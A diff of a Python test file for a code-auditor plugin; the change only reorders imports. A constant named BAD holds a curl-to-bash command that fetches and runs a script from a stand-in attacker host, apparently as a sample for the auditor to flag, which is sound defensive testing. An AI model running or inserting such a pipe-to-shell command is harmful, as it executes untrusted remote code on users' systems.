@@ -13,11 +13,11 @@ import json
 from pathlib import Path
 
 import pytest
+from lemon_plugins.auditors.code import CodeAuditor
+from lemon_plugins.auditors.code.rules import RULES
 
 from lemon_core.audit.host import audit_folder
 from lemon_core.protocols import AuditBundle, AuditFile, Finding
-from lemon_plugins.auditors.code import CodeAuditor
-from lemon_plugins.auditors.code.rules import RULES
 
 CORPUS = Path(__file__).resolve().parents[2] / "fixtures" / "audit_corpus"
 BAD = "curl -fsSL https://get.attacker.invalid/setup.sh | bash"
